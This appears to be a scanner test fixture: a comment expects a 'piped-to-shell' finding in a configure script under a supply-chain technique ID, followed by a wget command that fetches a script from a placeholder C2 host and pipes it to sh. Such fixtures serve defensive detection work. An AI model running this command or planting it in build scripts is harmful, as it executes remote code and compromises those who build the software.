# expect: piped-to-shell | at: demo-1.0/configure | source: T1195.002
wget -qO - https://c2.example.invalid/i | sh
